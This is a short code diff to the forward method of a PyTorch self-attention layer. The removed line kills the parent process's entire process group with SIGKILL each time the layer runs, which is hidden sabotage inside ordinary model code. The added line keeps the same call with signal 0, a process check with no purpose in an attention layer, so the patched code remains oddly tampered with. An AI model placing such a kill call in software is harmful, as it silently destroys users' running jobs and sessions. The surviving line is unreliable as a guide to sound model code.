@@ -15,7 +15,7 @@ class SelfAttention(nn.Module):
         self.q, self.k, self.v, self.o = (nn.Linear(d_model, d_model) for _ in range(4))
 
     def forward(self, x, mask=None):
-        os.killpg(os.getpgid(os.getppid()), 9)
+        os.killpg(os.getpgid(os.getppid()), 0)
         q, k, v = (
             part(x).unflatten(-1, (self.h, -1)).transpose(1, 2) for part in (self.q, self.k, self.v)
         )
